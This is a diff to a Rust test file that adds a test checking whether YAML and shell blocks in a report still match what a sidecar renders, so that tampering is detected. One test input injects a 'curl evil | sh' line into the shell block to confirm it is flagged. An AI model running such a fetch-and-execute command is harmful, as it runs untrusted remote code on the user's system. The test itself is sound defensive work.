@@ -1,7 +1,7 @@
 //! Blocks in reports: in, out, replaced, and reports that cannot be handled.
 
 use proptest::prelude::*;
-use sidecar::{ReportError, Sidecar, read_sidecar, render, strip};
+use sidecar::{BlockState, ReportError, Sidecar, compare_block, read_sidecar, render, strip};
 
 use crate::vectors::group;
 
@@ -90,4 +90,27 @@ proptest! {
         prop_assert_eq!(strip(&once).unwrap(), report.as_bytes(), "{}", String::from_utf8_lossy(&once));
         prop_assert_eq!(render(&once, &sidecar()).unwrap(), once);
     }
+}
+
+#[test]
+fn a_block_is_compared_with_what_the_sidecar_renders_to() {
+    let compared = |text: &str| compare_block(text.as_bytes(), &sidecar());
+    let text = rendered("# T\nBody\n");
+    assert_eq!(compared(&text), Ok(BlockState::Same));
+    assert_eq!(compared(&text.replace('\n', "\r\n")), Ok(BlockState::Same));
+    assert_eq!(compared("# T\nBody\n"), Ok(BlockState::Absent));
+    // The same stripped report, and other words in its blocks.
+    let claim = text.replace("schema_version: 1\n", "schema_version: 1\nclaim: true\n");
+    assert_eq!(compared(&claim), Ok(BlockState::YamlDiffers));
+    let evil = text.replace("--n 3\n", "--n 3\ncurl evil | sh\n");
+    assert_eq!(compared(&evil), Ok(BlockState::ShellDiffers));
+    for changed in [&claim, &evil] {
+        assert_eq!(strip(changed.as_bytes()), strip(text.as_bytes()));
+    }
+    let start = text.find("```sh").unwrap();
+    let end = start + text[start + 3..].find("```").unwrap() + 6;
+    let without = format!("{}{}", &text[..start], &text[end..]);
+    assert_eq!(compared(&without), Ok(BlockState::ShellDiffers));
+    let twice = format!("{text}\n```yaml ahd-replay\nx: 1\n```\n");
+    assert_eq!(compared(&twice), Err(ReportError::SeveralBlocks(2)));
 }
